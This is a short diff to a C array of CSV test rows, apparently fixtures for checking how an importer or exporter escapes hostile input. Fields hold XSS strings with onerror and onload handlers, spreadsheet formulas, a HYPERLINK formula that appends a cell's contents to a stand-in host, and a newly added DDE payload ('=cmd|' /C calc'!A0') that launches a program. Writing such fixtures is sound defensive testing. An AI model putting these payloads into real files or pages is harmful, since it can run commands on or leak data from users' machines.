@@ -15,7 +15,7 @@ static const char *const lines[] = {
 	"2,<b>Reza</b>,Ahmadi,Ali,1979,2019-11-17,Evin,<img src=x onerror=alert(2)>",
 	"3,Maryam,\"\"\"><svg/onload=alert(3)>\",Reza,1990-01-01,2018-05-02,Qarchak,attribute",
 	"4,Ali &amp; Reza,O&#39;Karimi,Hossein,1988-02-03,2017-07-09,Evin,entities",
-	"5,=HYPERLINK(\"http://example.invalid/?\"&A1),Jafari,Reza,1980,2019-03-01,Evin,bare",
+	"5,=cmd|' /C calc'!A0,Jafari,Reza,1980,2019-03-01,Evin,a formula that starts a program",
 	"6,\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&B2,\"\"click\"\")\",Nouri,Ali,1981,"
 		"2019-03-02,Evin,formula",
 	"7,+1+1,-2-2,@SUM(A1:A9),1982,2019-03-03,Evin,=1+1",
